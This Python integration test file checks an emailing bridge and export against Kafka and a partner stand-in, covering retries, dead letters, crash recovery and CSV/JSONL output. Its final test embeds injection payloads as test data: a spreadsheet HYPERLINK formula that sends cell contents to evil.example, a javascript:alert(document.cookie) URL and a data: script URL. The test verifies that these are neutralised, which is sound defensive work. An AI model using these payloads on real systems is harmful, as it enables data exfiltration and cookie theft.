"""The emailing bridge and export against the real broker and registry, the partner stand-in as a real process.

What is checked is what the partner saw (the stand-in's records) and what
is on the topics: every message reaches the partner with its idempotency key
despite injected failures and a SIGKILL, outcomes land on the deliveries
topic, and a partner down for longer than the budget yields dead letters
carrying its answer.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from passerelle.connectors.emailing.export import ExportConfig, export_window
from passerelle.connectors.emailing.mapping import build_payload
from passerelle.deploy.local.stack import free_port
from passerelle.schemas.catalog import load_catalog
from passerelle.streams.runtime.deadletter import header_dict
from tests.e2e.flow_helpers import Partner
from tests.integration.kafka_helpers import TopicReader, create_topics, produce_avro

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "t0ken-for-tests"


def message(i: int, step: int = 1) -> dict[str, Any]:
    product = {
        "id": f"SKU-{i}",
        "name": f"Product {i}",
        "price": 10.0 + i,
        "currency": "EUR",
        "quantity": 1,
        "category": None,
        "url": f"https://shop.example/p/{i}",
        "image_url": None,
    }
    return {
        "message_id": f"seq-{i}:{step}",
        "sequence_id": f"seq-{i}",
        "step": step,
        "customer_id": f"C-{i % 17}",
        "email": f"customer{i}@example.org",
        "site": "shop.example",
        "products": [product],
        "lines": [{"product_id": f"SKU-{i}", "name": None, "price": 10.0 + i, "quantity": 2, "currency": "EUR"}],
        "promotion": None
        if step == 1
        else {"code": "BACK10", "description": "10% off your cart", "discount_percent": 10.0},
        "created_at": int(time.time() * 1000),
    }


def produce_messages(bootstrap: str, registry: str, topic: str, messages: list[dict[str, Any]]) -> None:
    schema = load_catalog().schema_text("RemarketingMessage")
    produce_avro(bootstrap, registry, topic, schema, [(m["customer_id"], m) for m in messages])


def wait_for(predicate: Callable[[], bool], timeout: float, what: str, proc: Proc | None = None) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        if proc is not None and proc.popen.poll() is not None:
            raise AssertionError(f"{what}: bridge exited with {proc.popen.returncode}:\n{proc.tail()}")
        time.sleep(0.2)
    raise AssertionError(f"timed out after {timeout}s waiting for {what}" + (f":\n{proc.tail()}" if proc else ""))


class Proc:
    """A subprocess with its log file."""

    def __init__(self, args: list[str], log: Path) -> None:
        self.log = log
        env = {k: v for k, v in os.environ.items() if not k.startswith("PASSERELLE_")}
        env["EMAILING_TEST_TOKEN"] = TOKEN
        with open(log, "ab") as out:
            self.popen = subprocess.Popen(args, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT)

    def tail(self, chars: int = 3000) -> str:
        return self.log.read_text(errors="replace")[-chars:]

    def stop(self, sig: int = signal.SIGTERM, timeout: float = 20) -> int:
        if self.popen.poll() is None:
            self.popen.send_signal(sig)
            try:
                self.popen.wait(timeout)
            except subprocess.TimeoutExpired:
                self.popen.kill()
                self.popen.wait(10)
        return self.popen.returncode


class StandIn(Partner):
    """The partner stand-in as a real process, with the flow tests' client for its control endpoints."""

    def __init__(self, tmp: Path) -> None:
        self.port = free_port()
        self.proc = Proc(
            [sys.executable, "-m", "passerelle.connectors.emailing.standin", "--port", str(self.port), "--seed", "11"],
            tmp / "standin.log",
        )
        super().__init__(f"http://127.0.0.1:{self.port}")

        def answers() -> bool:
            try:
                return self.http.get("/_control").status_code == 200
            except httpx.HTTPError:
                return False

        wait_for(answers, 30, "the stand-in to answer")
        self.control(require_headers={"Authorization": f"Bearer {TOKEN}"})

    def close(self) -> None:
        super().close()
        self.proc.stop()


@pytest.fixture
def standin(tmp_path: Path) -> Iterator[StandIn]:
    partner = StandIn(tmp_path)
    try:
        yield partner
    finally:
        partner.close()


@pytest.fixture
def topics(kafka_bootstrap: str, unique: Callable[[str], str]) -> dict[str, str]:
    names = {
        "messages": unique("remarketing.messages"),
        "deliveries": unique("remarketing.deliveries"),
        "deadletters": unique("errors.deadletters"),
        "group": unique("emailing"),
    }
    create_topics(kafka_bootstrap, {names["messages"]: 3, names["deliveries"]: 3, names["deadletters"]: 1})
    return names


def bridge_config(bootstrap: str, registry: str, topics: dict[str, str], url: str, **extra: Any) -> dict[str, Any]:
    return {
        "bootstrap_servers": bootstrap,
        "schema_registry_url": registry,
        "partner_url": f"{url}/v1/messages",
        "partner_name": "standin",
        "auth": {"kind": "bearer", "secret_env": "EMAILING_TEST_TOKEN"},
        "topic": topics["messages"],
        "deliveries_topic": topics["deliveries"],
        "dead_letter_topic": topics["deadletters"],
        "group_id": topics["group"],
        "retry": {"max_attempts": 8, "base_delay_s": 0.02, "max_delay_s": 0.2, "max_total_s": 10},
        "request_timeout_s": 5,
        "batch_size": 10,
        "concurrency": 3,
        "poll_timeout_s": 0.2,
        # A killed member must not hold its partitions for librdkafka's default 45 s.
        "consumer_overrides": {"session.timeout.ms": 6000, "heartbeat.interval.ms": 1000},
        **extra,
    }


def start_bridge(config: dict[str, Any], tmp: Path, name: str = "bridge") -> Proc:
    path = tmp / f"{name}.json"
    path.write_text(json.dumps(config))
    return Proc([sys.executable, "-m", "passerelle.connectors.emailing", "bridge", "--config", str(path)],
                tmp / f"{name}.log")  # fmt: skip


class Outcomes:
    """Reads the deliveries topic incrementally."""

    def __init__(self, bootstrap: str, registry: str, topic: str) -> None:
        self.reader = TopicReader(bootstrap, registry, topic)

    def poll(self) -> list[dict[str, Any]]:
        self.reader.read(until=10**9, timeout=0.5)
        return [value for _, value in self.reader.records]

    def distinct(self) -> set[str]:
        return {o["message_id"] for o in self.poll()}

    def close(self) -> None:
        self.reader.close()


def run_export(config_path: Path) -> subprocess.CompletedProcess[bytes]:
    """One batch export, as an operator's scheduler runs it."""
    cmd = [sys.executable, "-m", "passerelle.connectors.emailing", "--log-level", "WARNING", "export", "--config"]
    return subprocess.run([*cmd, str(config_path)], cwd=ROOT, capture_output=True, timeout=60)


def assert_same_key_and_body(requests: list[dict[str, Any]], messages: list[dict[str, Any]]) -> None:
    """Every request for a message carries its id as idempotency key and the very same body."""
    bodies: dict[str, list[Any]] = defaultdict(list)
    for request in requests:
        assert request["headers"]["authorization"] == f"Bearer {TOKEN}"
        assert request["idempotency_key"] == request["body"]["message_id"]
        bodies[request["idempotency_key"]].append(request["body"])
    by_id = {m["message_id"]: m for m in messages}
    assert set(bodies) == set(by_id)
    for key, seen in bodies.items():
        assert all(body == build_payload(by_id[key]) for body in seen), key


def test_every_message_delivered_once_by_key_despite_failures(
    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], standin: StandIn, tmp_path: Path
) -> None:
    standin.control(fail_ratio=0.2, status=500)
    messages = [message(i, step=1 + i % 2) for i in range(50)]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], messages)
    metrics_port = free_port()
    bridge = start_bridge(
        bridge_config(kafka_bootstrap, schema_registry_url, topics, standin.url, metrics_port=metrics_port), tmp_path
    )
    outcomes = Outcomes(kafka_bootstrap, schema_registry_url, topics["deliveries"])
    try:
        wait_for(lambda: len(standin.delivered()) == 50, 40, "50 delivered keys", bridge)
        wait_for(lambda: len(outcomes.poll()) >= 50, 20, "50 outcomes", bridge)
        metrics = httpx.get(f"http://127.0.0.1:{metrics_port}/metrics", timeout=5).text
    finally:
        code = bridge.stop()
        records = outcomes.poll()
        outcomes.close()
    assert code == 0, bridge.tail()  # SIGTERM: graceful stop

    delivered = standin.delivered()
    assert delivered == {m["message_id"]: 1 for m in messages}  # each key got exactly one 2xx
    requests = standin.requests()
    statuses = Counter(r["status"] for r in requests)
    assert statuses[202] == 50 and statuses[500] > 0 and set(statuses) == {202, 500}
    assert_same_key_and_body(requests, messages)

    assert len(records) == 50 and {o["message_id"] for o in records} == set(delivered)
    assert {(o["outcome"], o["reason"], o["last_status"]) for o in records} == {("delivered", "delivered", 202)}
    assert sum(o["attempts"] for o in records) == len(requests)
    assert all(o["partner"] == "standin" and o["latency_ms"] >= 0 for o in records)
    assert f'passerelle_emailing_requests_total{{outcome="server_error"}} {float(statuses[500])}' in metrics
    assert 'passerelle_emailing_requests_total{outcome="delivered"} 50.0' in metrics
    assert "passerelle_emailing_dead_letters_total 0.0" in metrics
    assert "passerelle_emailing_request_seconds_bucket" in metrics


def test_partner_down_longer_than_the_budget_gives_dead_letters_with_its_answer(
    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], standin: StandIn, tmp_path: Path
) -> None:
    standin.control(fail_for_s=120, status=500)
    messages = [message(i) for i in range(4)]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], messages)
    schema = load_catalog().schema_text("RemarketingMessage")
    poison = b"\x00\x00\x00\x00\x01not avro at all"
    produce_avro(kafka_bootstrap, schema_registry_url, topics["messages"], schema, [], raw=[(b"poison", poison)])
    config = bridge_config(kafka_bootstrap, schema_registry_url, topics, standin.url)
    config["retry"] = {"max_attempts": 3, "base_delay_s": 0.05, "max_delay_s": 0.2, "max_total_s": 2}
    bridge = start_bridge(config, tmp_path)
    outcomes = Outcomes(kafka_bootstrap, schema_registry_url, topics["deliveries"])
    dead = TopicReader(kafka_bootstrap, schema_registry_url, topics["deadletters"], decode=False)
    try:
        wait_for(lambda: len(outcomes.poll()) >= 4, 40, "4 outcomes", bridge)
        letters = dead.read(until=5, timeout=20)
        records = outcomes.poll()
    finally:
        code = bridge.stop()
        outcomes.close()
        dead.close()
    assert code == 0, bridge.tail()

    assert standin.delivered() == {}
    assert Counter(r["idempotency_key"] for r in standin.requests()) == {m["message_id"]: 3 for m in messages}
    assert len(records) == 4
    for record in records:
        assert (record["outcome"], record["reason"], record["attempts"], record["last_status"]) == (
            "dead_lettered",
            "retries_exhausted",
            3,
            500,
        )
        assert "injected failure 500" in record["last_answer"]

    assert len(letters) == 5
    originals = TopicReader(kafka_bootstrap, schema_registry_url, topics["messages"], decode=False)
    try:
        source = {msg.value(): msg.key() for msg, _ in originals.read(until=5, timeout=20)}
    finally:
        originals.close()
    for msg, value in letters:
        assert value in source and msg.key() == source[value]  # the original bytes, untouched
        headers = header_dict(msg.headers())
        if value == poison:  # undecodable: dead-lettered without calling the partner
            assert headers["stage"] == "deserialize" and "partner.status" not in headers
            continue
        assert headers["topic"] == topics["messages"] and headers["stage"] == "deliver"
        assert headers["processor"] == "emailing"
        assert headers["exception.class"].endswith("PartnerDeliveryError")
        assert "standin answered 500 after 3 attempt(s)" in headers["exception.message"]
        assert headers["partner.status"] == "500" and headers["partner.attempts"] == "3"
        assert "injected failure 500" in headers["partner.answer"]


def test_a_killed_bridge_restarts_and_every_message_still_reaches_the_partner(
    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], standin: StandIn, tmp_path: Path
) -> None:
    standin.control(fail_ratio=0.1, status=503, delay_ms=40)
    messages = [message(i) for i in range(50)]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], messages)
    # Same instance id for both runs: static membership hands the partitions over at once.
    config = bridge_config(
        kafka_bootstrap, schema_registry_url, topics, standin.url, batch_size=4, instance_id="bridge-0"
    )
    first = start_bridge(config, tmp_path, "bridge-1")
    outcomes = Outcomes(kafka_bootstrap, schema_registry_url, topics["deliveries"])
    try:
        wait_for(lambda: len(standin.delivered()) >= 12, 40, "a first part delivered", first)
        assert first.stop(signal.SIGKILL) == -signal.SIGKILL
        before = len(standin.delivered())
        assert before < 50, "the bridge finished before it could be killed; slow the stand-in down"
        second = start_bridge(config, tmp_path, "bridge-2")
        try:
            wait_for(lambda: len(standin.delivered()) == 50, 60, "all 50 delivered after the restart", second)
            wait_for(lambda: len(outcomes.distinct()) == 50, 20, "an outcome for each message", second)
        finally:
            assert second.stop() == 0, second.tail()
    finally:
        outcomes.close()

    delivered = standin.delivered()
    assert set(delivered) == {m["message_id"] for m in messages}
    assert all(count >= 1 for count in delivered.values())
    assert_same_key_and_body(standin.requests(), messages)  # duplicates, if any, carry the same key and body


def test_export_writes_a_csv_and_a_jsonl_file_per_window(
    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], tmp_path: Path
) -> None:
    started_ms = int(time.time() * 1000) - 1000
    first = [message(i) for i in range(20)]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], first)
    out = tmp_path / "exports"
    config_path = tmp_path / "export.json"
    config_path.write_text(
        json.dumps(
            {
                "bootstrap_servers": kafka_bootstrap,
                "schema_registry_url": schema_registry_url,
                "out_dir": str(out),
                "topic": topics["messages"],
                "group_id": topics["group"],
                "dead_letter_topic": topics["deadletters"],
            }
        )
    )
    proc = run_export(config_path)
    assert proc.returncode == 0, proc.stderr.decode()
    summary = json.loads(proc.stdout)
    assert summary["count"] == 20 and summary["committed"] is True
    csv_path, jsonl_path = Path(summary["csv"]), Path(summary["jsonl"])
    assert csv_path.parent == out and csv_path.name.startswith("remarketing-") and csv_path.suffix == ".csv"
    assert jsonl_path == csv_path.with_suffix(".jsonl")
    csv_lines = csv_path.read_text().splitlines()
    assert len(csv_lines) == 21 and csv_lines[0].startswith("message_id,sequence_id")
    bodies = [json.loads(line) for line in jsonl_path.read_text().splitlines()]
    assert sorted(b["message_id"] for b in bodies) == sorted(m["message_id"] for m in first)
    assert sorted(p.name for p in out.iterdir()) == sorted([csv_path.name, jsonl_path.name])  # no temporaries

    config = ExportConfig(
        bootstrap_servers=kafka_bootstrap,
        schema_registry_url=schema_registry_url,
        out_dir=out,
        topic=topics["messages"],
        group_id=topics["group"],
        dead_letter_topic=topics["deadletters"],
    )
    nothing_new = export_window(config)
    assert (nothing_new.count, nothing_new.csv_path) == (0, None)

    second = [message(i) for i in range(100, 105)]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], second)
    time.sleep(0.01)
    more = export_window(config)
    assert more.count == 5 and more.committed and more.jsonl_path is not None
    assert {json.loads(line)["message_id"] for line in more.jsonl_path.read_text().splitlines()} == {
        m["message_id"] for m in second
    }

    replay = export_window(config, start_ms=started_ms, end_ms=int(time.time() * 1000) + 1000)
    assert replay.count == 25 and not replay.committed and replay.csv_path is not None
    assert replay.csv_path.name.startswith("remarketing-") and len(list(out.glob("*.csv"))) == 3


def test_sigterm_during_a_backoff_stops_at_once_and_commits_nothing_undecided(
    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], standin: StandIn, tmp_path: Path
) -> None:
    standin.control(fail_for_s=120, status=503)
    messages = [message(i) for i in range(6)]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], messages)
    config = bridge_config(kafka_bootstrap, schema_registry_url, topics, standin.url)
    config["retry"] = {"max_attempts": 100, "base_delay_s": 1, "max_delay_s": 5, "max_total_s": 600}
    first = start_bridge(config, tmp_path, "bridge-1")
    wait_for(lambda: len(standin.requests()) >= 1, 30, "a first request", first)
    stopping = time.monotonic()
    assert first.stop() == 0, first.tail()
    assert time.monotonic() - stopping < 5  # the backoff wait is interrupted, not waited out

    standin.control(fail_for_s=0)
    second = start_bridge(config, tmp_path, "bridge-2")
    outcomes = Outcomes(kafka_bootstrap, schema_registry_url, topics["deliveries"])
    try:
        wait_for(lambda: len(standin.delivered()) == 6, 30, "all 6 delivered by the next run", second)
        wait_for(lambda: len(outcomes.poll()) >= 6, 20, "6 outcomes", second)
        records = outcomes.poll()
    finally:
        assert second.stop() == 0, second.tail()
        outcomes.close()
    assert sorted(o["message_id"] for o in records) == sorted(m["message_id"] for m in messages)
    assert {o["outcome"] for o in records} == {"delivered"}  # nothing was decided (nor committed) by the first run


def test_hostile_message_fields_reach_the_partner_neutralised(
    kafka_bootstrap: str, schema_registry_url: str, topics: dict[str, str], standin: StandIn, tmp_path: Path
) -> None:
    # Issue 17, item 11: a formula in a text field, a javascript:/data: product URL, on the real topics.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile = message(1)
    hostile["customer_id"] = formula
    hostile["products"][0] |= {"url": "javascript:alert(document.cookie)", "image_url": "data:text/html,<script>"}
    messages = [message(0), hostile]
    produce_messages(kafka_bootstrap, schema_registry_url, topics["messages"], messages)
    metrics_port = free_port()
    bridge = start_bridge(
        bridge_config(kafka_bootstrap, schema_registry_url, topics, standin.url, metrics_port=metrics_port), tmp_path
    )
    try:
        wait_for(lambda: len(standin.delivered()) == 2, 40, "2 delivered keys", bridge)
        metrics = httpx.get(f"http://127.0.0.1:{metrics_port}/metrics", timeout=5).text
    finally:
        assert bridge.stop() == 0, bridge.tail()
    requests = standin.requests()
    assert_same_key_and_body(requests, messages)  # the hostile message went out, whole but for its URLs
    sent = {r["idempotency_key"]: r["body"] for r in requests}
    product = sent["seq-1:1"]["products"][0]
    assert (product["id"], product["url"], product["image_url"]) == ("SKU-1", None, None)
    assert sent["seq-1:1"]["customer_id"] == formula  # JSON is no spreadsheet: the data as is
    assert all("javascript" not in json.dumps(r["body"]) and "data:" not in json.dumps(r["body"]) for r in requests)
    assert "passerelle_emailing_unsafe_urls_total 2.0" in metrics
    log = bridge.tail(50_000)
    assert log.count("URL(s) not sent to the partner") == 1 and "products.0.url='javascript:alert" in log

    config_path = tmp_path / "export.json"
    config_path.write_text(
        json.dumps(
            {
                "bootstrap_servers": kafka_bootstrap,
                "schema_registry_url": schema_registry_url,
                "out_dir": str(tmp_path / "exports"),
                "topic": topics["messages"],
                "group_id": topics["group"] + "-export",
                "dead_letter_topic": topics["deadletters"],
            }
        )
    )
    proc = run_export(config_path)
    assert proc.returncode == 0, proc.stderr.decode()
    summary = json.loads(proc.stdout)
    assert (summary["count"], summary["unsafe_urls"]) == (2, 2)
    assert proc.stderr.decode().count("URL(s) not sent to the partner") == 1
    csv_text = Path(summary["csv"]).read_text(encoding="utf-8")
    jsonl_text = Path(summary["jsonl"]).read_text(encoding="utf-8")
    assert "javascript" not in csv_text + jsonl_text and "data:text" not in csv_text + jsonl_text
    with Path(summary["csv"]).open(newline="", encoding="utf-8") as f:
        rows = {row["message_id"]: row for row in csv.DictReader(f)}
    assert rows["seq-1:1"]["customer_id"] == "'" + formula and rows["seq-0:1"]["customer_id"] == "C-0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
    assert [json.loads(line)["customer_id"] for line in jsonl_text.splitlines()].count(formula) == 1
